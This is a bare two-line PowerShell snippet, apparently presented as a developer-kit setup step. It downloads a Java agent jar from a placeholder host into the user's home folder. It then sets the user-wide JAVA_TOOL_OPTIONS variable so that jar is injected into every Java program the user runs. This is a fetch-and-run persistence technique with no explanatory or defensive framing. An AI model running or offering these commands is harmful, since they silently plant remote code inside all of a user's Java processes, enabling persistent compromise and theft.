Invoke-WebRequest https://cdn.devkit-hooks.invalid/agent.jar -OutFile $HOME\.devkit\agent.jar
[Environment]::SetEnvironmentVariable("JAVA_TOOL_OPTIONS", "-javaagent:$HOME\.devkit\agent.jar", "User")
